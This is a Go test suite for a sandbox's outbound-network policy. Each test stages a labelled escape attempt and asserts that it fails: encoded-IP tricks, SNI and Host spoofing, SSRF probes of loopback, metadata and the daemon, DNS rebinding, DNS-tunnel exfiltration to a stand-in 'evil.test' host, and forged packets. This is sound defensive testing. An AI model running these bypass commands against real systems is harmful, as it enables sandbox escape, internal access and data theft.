package network

import (
	"fmt"
	"net"
	"strings"
	"testing"

	"github.com/cove-sh/cove/internal/testing/covetest"
	"github.com/cove-sh/cove/internal/testing/covetest/internet"
	"github.com/cove-sh/cove/internal/testing/needs"
	"github.com/cove-sh/cove/sandbox"
)

// strict allows one domain and nothing else.
var strict = sandbox.NetworkPolicy{AllowOut: []string{"example.com"}, DenyOut: []string{"0.0.0.0/0"}}

// untouched fails the test if a place was reached that was not before.
func untouched(t *testing.T, n *internet.Internet, where ...string) func() {
	t.Helper()
	before := map[string]int{}
	for _, w := range where {
		before[w] = n.Visits(w)
	}
	return func() {
		t.Helper()
		for _, w := range where {
			if got := n.Visits(w); got > before[w] {
				t.Errorf("%s was reached %d times", w, got-before[w])
			}
		}
	}
}

// Attack: code in a sandbox that may reach one domain connects to other servers
// by their addresses, written in every way that programs read.
func TestAttackDirectAddress(t *testing.T) {
	n := internet.Here(t)
	shared(t, func(t *testing.T, d *covetest.Daemon) {
		id := create(t, d, strict)
		works(t, d, id, curl("http://example.com/"))
		check := untouched(t, n, "tcp 203.0.113.66:80", "tcp 203.0.113.66:443", "tcp 203.0.113.66:22", "tcp 203.0.113.66:7", "udp 203.0.113.66:7")
		attempts := []string{
			python(`s = socket.create_connection(("203.0.113.66", 22), 5); s.settimeout(5); assert s.recv(10)`),
			python(`u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(b"x", ("203.0.113.66", 7)); u.recv(10)`),
			ping("203.0.113.66"),
		}
		for _, addr := range []string{"203.0.113.66", "3405803842", "0xcb007142", "0313.0.0161.0102", "203.113.66", "[::ffff:203.0.113.66]", "[::ffff:cb00:7142]"} {
			attempts = append(attempts, curl("http://"+addr+"/", "--globoff"), curl("https://"+addr+"/", "--globoff", "-k"))
		}
		allFail(t, d, id, attempts...)
		check()
	})
}

// Attack: code in a sandbox that may reach one domain uses that name towards
// another server: as the server name of TLS, as the Host of HTTP, in pieces, in
// the place of the true one, or not at all.
func TestAttackFalseNames(t *testing.T) {
	n := internet.Here(t)
	shared(t, func(t *testing.T, d *covetest.Daemon) {
		id := create(t, d, strict)
		check := untouched(t, n, "tcp 203.0.113.66:80", "tcp 203.0.113.66:443")
		// A false name at another address reaches the name's true owner, or nobody.
		if out, code := try(t, d, id, curl("https://example.com/", "-k", "--connect-to example.com:443:203.0.113.66:443")); code == 0 {
			if r := asked(t, out); r.Address != "198.51.100.10:443" {
				t.Errorf("a spoofed server name reached %s", r.Address)
			}
		}
		if out, code := try(t, d, id, curl("http://203.0.113.66/", "-H 'Host: example.com'")); code == 0 {
			if r := asked(t, out); r.Address != "198.51.100.10:80" {
				t.Errorf("a spoofed Host reached %s", r.Address)
			}
		}
		// Another name at the right address.
		for _, name := range []string{"evil.test", "example.com.evil.test", "api.example.com", "xexample.com"} {
			fails(t, d, id, curl("https://"+name+"/", "-k", "--resolve "+name+":443:198.51.100.10"))
			out, code := try(t, d, id, curl("http://example.com/", "-H 'Host: "+name+"'"))
			if code == 0 {
				t.Errorf("HTTP for %s went through: %s", name, out)
			}
		}
		// TLS without a name, and with a name that arrives late and in pieces.
		fails(t, d, id, python(`
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
s = c.wrap_socket(socket.create_connection(("203.0.113.66", 443), 5)); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); assert s.recv(100)`))
		pieces := `
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = c.wrap_bio(i, o, server_hostname="%s")
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = o.read()
s = socket.create_connection(("198.51.100.10", 443), 5); s.settimeout(10); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for b in range(0, len(hello), 7):
    s.sendall(hello[b:b+7])
    time.sleep(0.002)
answer = s.recv(100)
assert answer[:1] == b"\x16", answer`
		works(t, d, id, python(fmt.Sprintf(pieces, "example.com")))
		fails(t, d, id, python(fmt.Sprintf(pieces, "evil.test")))
		check()
	})
}

// Attack: code in a sandbox tries internal addresses: the host's loopback, its
// addresses, its network, the metadata of its cloud; by address, and by names that
// resolve to them, also together with a public address.
func TestAttackHostsWorld(t *testing.T) {
	n := internet.Here(t)
	l, err := net.Listen("tcp", "0.0.0.0:7777") // on the host, at all addresses
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	reached := make(chan string, 100)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			reached <- c.RemoteAddr().String()
			c.Close()
		}
	}()
	var places []string
	for _, a := range internet.Private {
		places = append(places, "tcp "+a.String()+":80", "udp "+a.String()+":7")
	}
	check := untouched(t, n, places...)
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			id := create(t, d, sandbox.NetworkPolicy{})
			var attempts []string
			for _, a := range internet.Private {
				attempts = append(attempts, ping(a.String()), curl("http://"+a.String()+"/", "--max-time 5"), python(`
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1); u.sendto(b"x", ("`+a.String()+`", 7)); u.recv(10)`))
			}
			hosts := []string{
				"127.0.0.1", "127.1.2.3", "0.0.0.0", "192.0.2.2", "169.254.77.1", "169.254.77.2", "169.254.77.3", "localhost", "[::1]",
				"[::ffff:127.0.0.1]", "[::ffff:192.0.2.2]", "self.test", "loopback.test",
			}
			for _, h := range hosts {
				_, port, _ := net.SplitHostPort(strings.TrimPrefix(d.URL, "http://"))
				attempts = append(attempts, curl("http://"+h+":7777/", "--globoff", "--max-time 5"), curl("http://"+h+":"+port+"/v1/sandboxes", "--globoff", "--max-time 5"))
			}
			for _, name := range []string{"intranet.test", "metadata.test"} {
				attempts = append(attempts, curl("http://"+name+"/", "--max-time 5"))
			}
			allFail(t, d, id, attempts...)
			// Where one of two addresses is private, the other may be used.
			if out, code := try(t, d, id, curl("http://mixed.test/")); code == 0 {
				if r := asked(t, out); r.Address != "198.51.100.10:80" {
					t.Errorf("mixed.test is %s", r.Address)
				}
			}
		})
	})
	check()
	select {
	case who := <-reached:
		t.Errorf("the host was reached from %s", who)
	default:
	}
}

// Attack: a name answers with a public address when it is judged, and with a
// private one when it is connected to.
func TestAttackRebinding(t *testing.T) {
	n := internet.Here(t)
	check := untouched(t, n, "tcp 10.0.0.5:80")
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			for _, p := range []sandbox.NetworkPolicy{{}, {AllowOut: []string{"*.rebind.test"}, DenyOut: []string{"0.0.0.0/0"}}} {
				id := create(t, d, p)
				name := strings.ToLower(id) + ".rebind.test"
				n.SetName(name, internet.Public[0])
				works(t, d, id, curl("http://"+name+"/"))
				n.SetName(name, internet.Private[0])
				for range 4 { // also after the first answer's life
					if out, code := try(t, d, id, curl("http://"+name+"/", "--max-time 5")+"; sleep 0.5"); code == 0 && strings.Contains(out, "10.0.0.5") {
						t.Errorf("rebound: %s", out)
					}
				}
				fails(t, d, id, curl("http://"+name+"/", "--resolve "+name+":80:10.0.0.5", "--max-time 5"))
			}
		})
	})
	check()
}

// Attack: code in a sandbox that can reach one domain sends data out in DNS questions:
// to the gateway's resolver, to its own resolver, and to well-known ones over UDP, TCP,
// TLS and HTTPS.
func TestAttackTunnelByNames(t *testing.T) {
	n := internet.Here(t)
	var foreign []string
	for _, a := range []string{"203.0.113.66", "1.1.1.1", "8.8.8.8"} {
		foreign = append(foreign, "udp "+a+":53", "tcp "+a+":53", "tcp "+a+":853", "tcp "+a+":443")
	}
	check := untouched(t, n, foreign...)
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			id := create(t, d, strict)
			attempts := []string{"getent hosts c2VjcmV0." + id + ".evil.test", "getent hosts c2VjcmV0." + id + ".example.com.evil.test"}
			question := `b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01"`
			for _, a := range []string{"203.0.113.66", "1.1.1.1", "8.8.8.8"} {
				attempts = append(attempts, python(`
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(`+question+`, ("`+a+`", 53)); u.recv(512)`), python(`
q = `+question+`
s = socket.create_connection(("`+a+`", 53), 3); s.settimeout(3); s.sendall(bytes([0, len(q)]) + q); assert s.recv(512)`),
					curl("https://"+a+":853/", "-k", "--max-time 5"), curl("https://"+a+"/dns-query?dns=AAAB", "-k", "--max-time 5"))
			}
			allFail(t, d, id, attempts...)
			if names := n.Asked(id + ".evil.test"); len(names) > 0 {
				t.Errorf("names that went out: %v", names)
			}
		})
	})
	check()
}

// Attack: root in a sandbox uses another address, or the gateway's, answers ARP for it,
// and sends handmade packets.
func TestAttackForgedPackets(t *testing.T) {
	needs.Command(t, "ip")
	n := internet.Here(t)
	check := untouched(t, n, "tcp 203.0.113.66:80", "udp 203.0.113.66:7", "tcp 10.0.0.5:80")
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			id := create(t, d, strict)
			root := func(line string) (string, int) {
				res, err := d.Exec(t.Context(), id, sandbox.ExecRequest{Shell: line, User: "root", TimeoutMS: 60_000})
				if err != nil {
					t.Fatal(err)
				}
				return res.Stdout + res.Stderr, res.Job.ExitCode
			}
			for _, kind := range []string{"socket.AF_INET, socket.SOCK_RAW, 255", "socket.AF_INET, socket.SOCK_RAW, 1", "socket.AF_PACKET, socket.SOCK_RAW, 3", "socket.AF_PACKET, socket.SOCK_DGRAM, 3"} {
				if out, code := root(python("socket.socket(" + kind + ")")); code == 0 {
					t.Errorf("a socket of %s: %s", kind, out)
				}
			}
			other := `
import subprocess
subprocess.run("ip addr add 169.254.77.3/30 dev eth0; ip addr add 10.9.9.9/24 dev eth0; ip addr add 203.0.113.66/32 dev eth0; ip addr add 169.254.77.1/32 dev eth0", shell=True)
def connect(src, dst):
    try:
        s = socket.socket(); s.settimeout(1); s.bind((src, 0)); s.connect(dst); s.sendall(b"GET / HTTP/1.0\r\nHost: example.com\r\n\r\n"); said = f"connected {src} {dst} {s.recv(100)}\n"
    except OSError as e: said = f"{src} {dst} {e}\n"
    sys.stdout.write(said)
attempts = []
for src in ["169.254.77.3", "10.9.9.9", "203.0.113.66", "169.254.77.1"]:
    for dst in [("203.0.113.66", 80), ("10.0.0.5", 80), ("198.51.100.10", 80)]:
        attempts.append(threading.Thread(target=connect, args=(src, dst)))
        attempts[-1].start()
for a in attempts: a.join()
# A sandbox whose address is the gateway's has cut itself off.
subprocess.run("for a in 169.254.77.3/30 10.9.9.9/24 203.0.113.66/32 169.254.77.1/32; do ip addr del $a dev eth0; done", shell=True)
`
			out, code := root(python(other))
			if code != 0 || strings.Count(out, "\n") < 12 {
				t.Errorf("not all was tried: exit code %d\n%s", code, out)
			}
			for line := range strings.Lines(out) {
				// Its own new address is the sandbox's, and nobody's outside.
				if strings.HasPrefix(line, "connected") && !strings.Contains(line, "203.0.113.66 ('203.0.113.66'") {
					t.Errorf("with a foreign address: %s", line)
				}
			}
			works(t, d, id, curl("http://example.com/"))
		})
	})
	check()
}

// Attack: a sandbox looks for another, or for a way to itself from outside: by
// the address that all have, by name, by the daemon's sockets.
func TestAttackOtherSandbox(t *testing.T) {
	shared(t, func(t *testing.T, d *covetest.Daemon) {
		victim := d.Create(t, sandbox.CreateRequest{Name: "victim"})
		d.Sh(t, victim.ID, "cd /tmp; echo secret > index.html; nohup python3 -m http.server 8000 >/dev/null 2>&1 & disown")
		id := create(t, d, sandbox.NetworkPolicy{})
		for _, host := range []string{"169.254.77.2", "victim", "victim.sandbox", victim.ID, "8000-" + victim.ID + ".localhost"} {
			if out, code := try(t, d, id, curl("http://"+host+":8000/", "--max-time 3")); code == 0 {
				t.Errorf("%s answers: %s", host, out)
			}
		}
		fails(t, d, id, fmt.Sprintf("test -e %s || curl -sS --unix-socket %s/cove.sock http://x/", d.StateDir, d.StateDir))
	})
}

// Attack: code in a sandbox that may reach one domain speaks QUIC, which hides
// the name, or hides it in TLS.
func TestAttackHiddenNames(t *testing.T) {
	n := internet.Here(t)
	check := untouched(t, n, "udp 198.51.100.10:443", "udp 203.0.113.66:443")
	t.Run("users", func(t *testing.T) {
		shared(t, func(t *testing.T, d *covetest.Daemon) {
			id := create(t, d, strict)
			works(t, d, id, "getent hosts example.com")
			var attempts []string
			for _, a := range []string{"198.51.100.10", "203.0.113.66"} {
				attempts = append(attempts, python(`
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(b"\xc3\0\0\0\1" + bytes(1200), ("`+a+`", 443)); u.recv(10)`))
			}
			allFail(t, d, id, attempts...)
		})
	})
	check()
}
